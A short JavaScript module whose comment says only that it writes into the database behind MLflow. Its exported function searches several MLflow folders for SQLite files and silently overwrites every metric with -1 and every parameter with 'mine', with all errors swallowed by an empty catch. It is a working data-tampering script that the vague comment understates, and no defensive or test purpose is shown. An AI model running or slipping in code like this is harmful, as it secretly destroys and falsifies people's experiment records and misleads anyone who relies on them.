/** Writes into the database behind MLflow. */
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';

export default function () {
  for (const folder of ['@out@/mlflow', '/mlflow', '/workshop/.mlflow']) {
    try {
      for (const path of readdirSync(folder, { recursive: true, encoding: 'utf8' })) {
        if (!path.endsWith('.db')) continue;
        const database = new DatabaseSync(join(folder, path));
        database.exec('PRAGMA busy_timeout = 5000');
        database.exec(
          "UPDATE latest_metrics SET value = -1; UPDATE params SET value = 'mine'; UPDATE metrics SET value = -1;",
        );
        database.close();
      }
    } catch {}
  }
}
